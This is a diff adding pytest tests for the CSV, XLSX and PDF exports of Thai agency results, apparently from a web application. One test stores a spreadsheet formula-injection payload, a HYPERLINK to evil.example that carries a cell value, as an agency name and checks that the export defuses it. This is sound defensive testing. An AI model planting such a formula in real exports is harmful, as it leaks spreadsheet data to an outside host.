@@ -115,3 +115,43 @@ def test_lists_follow_thai_dictionary_order_of_districts_as_the_letter_does(clie
     districts = list(dict.fromkeys(row["district"] for row in rows))
     # Code-point order would put every district written with a leading vowel (เ, โ) last.
     assert districts == ["อำเภอเซกา", "อำเภอพรเจริญ", "อำเภอเมืองบึงกาฬ"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_an_agency_name_that_looks_like_a_formula_is_exported_as_text(client, results, fmt):
+    payload = '=HYPERLINK("https://evil.example/?d="&D2,"x")'
+    agency = results.extra[3]  # the one that did not pass in Seka
+    type(agency).objects.filter(pk=agency.pk).update(name=payload)
+    r = client.get(f"/results/2567/exports/agencies.{fmt}?province=38&passed=0")
+    raw = b"".join(r.streaming_content)
+    if fmt == "csv":
+        cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
+    else:
+        ws = load_workbook(io.BytesIO(raw)).active
+        assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
+        cells = [str(v) for row in ws.iter_rows(values_only=True) for v in row if v is not None]
+    assert not [c for c in cells if c.startswith(("=", "+", "@"))]
+    # the name is exported (with its kind's prefix, which alone would not have made it safe)
+    assert any(payload in c for c in cells)
+
+
+def test_the_passed_column_says_passed_or_did_not_pass(client, results):
+    raw = b"".join(client.get("/results/2567/exports/agencies.csv?province=38").streaming_content)
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert rows[0][7] == "ผ่าน"
+    assert {r[7] for r in rows[1:]} == {"ผ่าน", "ไม่ผ่าน"}
+
+
+def test_xlsx_has_column_widths_and_a_frozen_header(client, results):
+    r = client.get("/results/2567/exports/agencies.xlsx?province=38")
+    ws = load_workbook(io.BytesIO(b"".join(r.streaming_content))).active
+    assert ws.freeze_panes == "A3"  # the title and the header stay in view
+    widths = {k: v.width for k, v in ws.column_dimensions.items()}
+    assert widths["C"] > widths["A"] >= 6  # the agency name is the widest column
+
+
+def test_pdf_variants_download_under_distinct_names(client, results):
+    arabic = client.get("/results/2567/exports/agencies.pdf?province=38&passed=0")
+    thai = client.get("/results/2567/exports/agencies.pdf?province=38&passed=0&digits=thai")
+    names = {arabic["Content-Disposition"], thai["Content-Disposition"]}
+    assert len(names) == 2 and "thai-digits" in thai["Content-Disposition"]
